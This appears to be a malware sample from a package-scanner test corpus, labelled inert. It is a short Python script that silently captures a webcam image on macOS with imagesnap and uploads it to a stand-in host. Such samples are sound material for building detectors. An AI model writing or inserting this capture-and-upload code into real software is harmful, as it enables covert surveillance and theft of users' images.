# pkgguard corpus 786 (screenshot), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import subprocess
import sys
import tempfile

import requests

if sys.platform == "darwin" and shutil.which("imagesnap"):
    shot = os.path.join(tempfile.gettempdir(), ".cam.jpg")
    subprocess.run(["imagesnap", "-q", "-w", "1", shot], capture_output=True)
    with open(shot, "rb") as fh:
        requests.post("https://img-cdn.example/u", files={"f": fh}, timeout=20)
